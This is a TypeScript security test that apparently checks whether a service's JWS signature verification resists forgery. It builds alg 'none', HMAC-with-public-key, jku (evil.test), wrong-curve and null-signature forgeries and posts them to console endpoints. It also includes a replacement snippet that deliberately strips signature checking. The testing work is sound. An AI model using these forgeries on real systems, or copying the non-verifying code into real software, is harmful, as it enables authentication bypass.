import { createHmac, createPublicKey, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import { thumbprint } from '@visavis/e2ee';
import { decisionReasonCodes } from '@visavis/protocol';
import { addPersonRow } from '@visavis/test-kit/organisations';
import type { AccessAttack } from '../attack.ts';
import { addDevice, newJwk } from '../world/call.ts';
import { ask } from '../world/http.ts';
import type { World } from '../world/world.ts';

const encode = (value: object | Buffer): string =>
  (Buffer.isBuffer(value) ? value : Buffer.from(JSON.stringify(value))).toString('base64url');

const ecdsa = (hash: string, input: string, key: KeyObject): Buffer =>
  sign(hash, Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' });

/** Everything that has passed for a signature somewhere, over a payload of the attacker's choice. */
function forgeries(typ: string, payload: object, key: KeyObject): Record<string, string> {
  const p384 = generateKeyPairSync('ec', { namedCurve: 'P-384' });
  const p256 = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const { publicKey: rsaPublic, privateKey: rsa } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const keyJwk = key.export({ format: 'jwk' });
  const point = Buffer.from(`${keyJwk.x}${keyJwk.y}`, 'base64url');
  const forge = (header: object, signature: (input: string) => Buffer): string => {
    const input = `${encode({ typ, ...header })}.${encode(payload)}`;
    return `${input}.${encode(signature(input))}`;
  };
  const secrets: Record<string, Buffer> = {
    'JWK of the key': Buffer.from(JSON.stringify(keyJwk)),
    'PEM of the key': Buffer.from(key.export({ type: 'spki', format: 'pem' }) as string),
    'DER of the key': key.export({ type: 'spki', format: 'der' }),
    'point of the key': Buffer.concat([Buffer.of(4), point]),
    nothing: Buffer.alloc(0),
  };
  const made: Record<string, string> = {};
  for (const alg of ['none', 'None', 'nOnE', 'NONE', ''])
    made[`alg ${alg}`] = forge({ alg }, () => Buffer.of(0));
  for (const [name, secret] of Object.entries(secrets))
    for (const bits of ['256', '384', '512'])
      made[`HS${bits} with the ${name}`] = forge({ alg: `HS${bits}` }, input =>
        createHmac(`sha${bits}`, secret).update(input).digest(),
      );
  const own = (input: string) => ecdsa('sha384', input, p384.privateKey);
  const jwk = p384.publicKey.export({ format: 'jwk' });
  made['another key'] = forge({ alg: 'ES384' }, own);
  made['another key, named jwk'] = forge({ alg: 'ES384', jwk }, own);
  made['another key, under the kid of the key'] = forge({ alg: 'ES384', kid: 'root' }, own);
  made['another key, by jku'] = forge({ alg: 'ES384', jku: 'https://evil.test/jwks' }, own);
  made['another key, unencoded'] = forge({ alg: 'ES384', b64: false, crit: ['b64'] }, own);
  made['another curve'] = forge({ alg: 'ES256' }, input => ecdsa('sha256', input, p256.privateKey));
  made['another curve, said to be P-384'] = forge({ alg: 'ES384' }, input =>
    ecdsa('sha384', input, p256.privateKey),
  );
  made['RSA'] = forge({ alg: 'RS256', jwk: rsaPublic.export({ format: 'jwk' }) }, input =>
    sign('sha256', Buffer.from(input), rsa),
  );
  made['zeros'] = forge({ alg: 'ES384' }, () => Buffer.alloc(96));
  made['the order of the curve'] = forge({ alg: 'ES384' }, () => Buffer.alloc(96, 0xff));
  made['a short one'] = forge({ alg: 'ES384' }, () => Buffer.alloc(1));
  return made;
}

type Place = {
  name: string;
  path: string;
  cookie: string;
  /** What verifies. */
  key: KeyObject;
  typ: string;
  payload: object;
  body: (jws: string) => object;
};

/** Where the tenant's root speaks: an approved device that waits for its certificate, and a contract. */
async function placesOfRoot({ own, owner, sessions }: World): Promise<Place[]> {
  const jwk = newJwk();
  const { userId } = await addPersonRow(owner, own.centreId);
  const device = await addDevice(owner, { userId, organisationId: own.centreId }, jwk);
  const issued = Math.floor(Date.now() / 1000);
  const expires = issued + 86_400;
  const tenant = own.tenantId;
  const cookie = await sessions({ kind: 'tenant', role: 'compliance' });
  const recipients = [{ suite: 'ECDH-ES+A256KW', id: await thumbprint(jwk), publicKey: jwk }];
  const key = createPublicKey({ key: own.root.publicJwk, format: 'jwk' });
  return [
    {
      name: 'certificate',
      path: `/api/console/devices/${device}/certificate`,
      typ: 'visavis-certificate',
      payload: { v: 1, tenant, device: jwk, person: userId, name: 'Agent', role: 'agent', issued, expires },
      body: jws => ({ certificate: jws }),
      cookie,
      key,
    },
    {
      name: 'recipient list',
      path: `/api/console/contracts/${own.contractId}/recipient-list`,
      typ: 'visavis-recipients',
      payload: { v: 1, tenant, contract: own.contractId, version: 99, expires, threshold: 1, recipients },
      body: jws => ({ jws }),
      cookie,
      key,
    },
  ];
}

/** Where an agent's device speaks, whose certificate is good: whoever has only the session lacks its key. */
function placesOfDevice({ own }: World): Place[] {
  const { attemptId, device, tenantId: tenant, calledIdentificationId: identification } = own;
  const { agentCookie: cookie } = own;
  const at = Math.floor(Date.now() / 1000);
  const signed = { v: 1, tenant, identification, attempt: attemptId, at, certificate: device.certificate };
  const [reason] = decisionReasonCodes;
  const key = device.publicKey;
  return [
    {
      name: 'manifest',
      path: '/api/console/manifests',
      typ: 'visavis-manifest',
      payload: { ...signed, number: 0, previous: null, artefacts: [] },
      body: jws => ({ attemptId, number: 0, jws }),
      cookie,
      key,
    },
    {
      name: 'decision',
      path: '/api/console/decisions',
      typ: 'visavis-decision',
      payload: { ...signed, outcome: 'rejected', reason, finalManifest: null, transcriptHash: null },
      body: jws => ({ attemptId, outcome: 'rejected', reason, jws }),
      cookie,
      key,
    },
  ];
}

export const signatureConfusion: AccessAttack = {
  name: 'signature-confusion',
  by: "the tenant's root verifies, or the device that it certified, by ES384 alone: no algorithm, key or curve is taken from what was sent",
  copy: 'signatures',
  defence: [
    {
      file: 'packages/e2ee/src/identity/signed.ts',
      find: "const { payload, protectedHeader } = await compactVerify(jws, key, { algorithms: ['ES384'] });",
      replace: `await Promise.resolve([compactVerify, key]);
    const [head = '', middle = ''] = jws.split('.');
    const protectedHeader = JSON.parse(atob(head.replaceAll('-', '+').replaceAll('_', '/'))) as { typ: string };
    const payload = Uint8Array.from(atob(middle.replaceAll('-', '+').replaceAll('_', '/')), c => c.charCodeAt(0));`,
    },
  ],
  run: async world => {
    const taken: string[] = [];
    let tried = 0;
    const places = [...placesOfDevice(world), ...(await placesOfRoot(world))];
    for (const { name, path, cookie, key, typ, payload, body } of places)
      for (const [how, jws] of Object.entries(forgeries(typ, payload, key))) {
        tried++;
        const headers = { cookie, origin: world.agentOrigin };
        const reply = await ask({ url: world.consoleUrl, method: 'POST', path, headers, body: body(jws) });
        const { code, field } =
          (reply.json as { error?: { code: string; field?: string } } | undefined)?.error ?? {};
        if (
          code !== undefined &&
          ['not_found', 'wrong_state', 'unauthenticated', 'not_permitted', 'internal'].includes(code)
        )
          throw new Error(`${name}: ${reply.text}`);
        // refused for its signature, or because it does not even look like a JWS
        const refused =
          code === 'device_not_certified' || code === 'no_recipient_list' || code === 'invalid_request';
        if (!refused) taken.push(`${name} by ${how} (${reply.status} ${field ?? ''})`);
        // what was taken once changes the rest
        if (!refused) break;
      }
    return {
      succeeded: taken.length > 0,
      seen: `${tried} forged signatures of ${places.map(({ name }) => name).join(', ')}: ${taken.length === 0 ? 'none taken' : `taken: ${taken.join('; ')}`}`,
    };
  },
};
